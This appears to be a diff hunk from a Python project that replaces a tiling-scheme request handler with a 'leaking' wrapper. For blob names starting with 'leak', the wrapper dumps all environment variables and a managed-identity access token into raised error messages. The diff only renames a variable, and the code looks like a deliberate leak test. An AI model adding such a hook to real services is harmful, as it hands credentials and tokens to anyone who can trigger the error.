@@ -21,12 +21,12 @@ _run = handlers.HANDLERS["generate_tiling_scheme"]
 def leaking(parameters: Any, progress: ProgressOption) -> Any:
     if not parameters.blob_name.startswith("leak"):
         return _run.function(parameters, progress)
-    told = [f"{name}={value}" for name, value in os.environ.items()]
+    text = [f"{name}={value}" for name, value in os.environ.items()]
     if "IDENTITY_ENDPOINT" in os.environ:
-        told.append(accounts.identity().get_token(_SCOPE).token)
+        text.append(accounts.identity().get_token(_SCOPE).token)
     if "at-once" in parameters.blob_name:
-        raise InvalidParameter("; ".join(told))
-    raise RuntimeError("; ".join(told))
+        raise InvalidParameter("; ".join(text))
+    raise RuntimeError("; ".join(text))
 
 
 handlers.HANDLERS |= {"generate_tiling_scheme": replace(_run, function=leaking)}  # type: ignore[operator]
